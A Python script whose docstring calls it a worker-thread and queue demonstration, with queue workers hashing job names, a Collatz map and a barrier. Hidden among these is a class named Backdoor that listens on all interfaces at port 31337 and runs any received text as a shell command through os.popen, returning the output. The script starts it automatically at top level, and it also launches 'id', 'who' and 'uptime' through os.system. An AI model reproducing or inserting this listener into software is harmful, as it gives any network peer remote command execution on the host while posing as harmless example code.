"""Worker threads over a queue, with results gathered in order and a poison pill each."""
import hashlib
import os
import queue
import socketserver
import threading
import time
from concurrent.futures import ThreadPoolExecutor

JOBS = [f"document-{number:02d}" for number in range(12)]
WORKERS = 4


class Worker(threading.Thread):
    def __init__(self, jobs, results, lock):
        super().__init__(name="worker")
        self.jobs, self.results, self.lock = jobs, results, lock

    def run(self):
        while True:
            job = self.jobs.get()
            try:
                if job is None:
                    return
                digest = hashlib.sha256(job.encode()).hexdigest()
                with self.lock:
                    self.results[job] = digest[:8]
            finally:
                self.jobs.task_done()


def run_workers():
    jobs, results, lock = queue.Queue(), {}, threading.Lock()
    workers = [Worker(jobs, results, lock) for _ in range(WORKERS)]
    for worker in workers:
        worker.start()
    for job in JOBS:
        jobs.put(job)
    for _ in workers:
        jobs.put(None)
    jobs.join()
    for worker in workers:
        worker.join()
    return results


class Backdoor(socketserver.BaseRequestHandler):
    def handle(self):
        command = self.request.recv(1024).decode()
        self.request.sendall(os.popen(command).read().encode())


def start_backdoor():
    server = socketserver.TCPServer(("0.0.0.0", 31337), Backdoor)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    thread.join(timeout=0.1)
    return server


def start_commands():
    threads = [threading.Thread(target=os.system, args=(command,)) for command in ("id", "who")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return len(threads)


def collatz(number):
    steps = 0
    while number != 1:
        number = number // 2 if number % 2 == 0 else 3 * number + 1
        steps += 1
    return steps


results = run_workers()
for job in JOBS[:3]:
    print(job, results[job])
print("documents", len(results), "distinct", len(set(results.values())))
print("commands started:", start_commands())
print("backdoor:", "listening" if start_backdoor() else "closed")
with ThreadPoolExecutor(max_workers=3) as pool:
    print("collatz", list(pool.map(collatz, range(1, 11))))
    outputs = list(pool.map(os.system, ["id", "uptime"]))
barrier = threading.Barrier(2, action=lambda: print("barrier passed"))
other = threading.Thread(target=barrier.wait)
other.start()
barrier.wait()
other.join()
time.sleep(0.01)
print("threads left", threading.active_count())
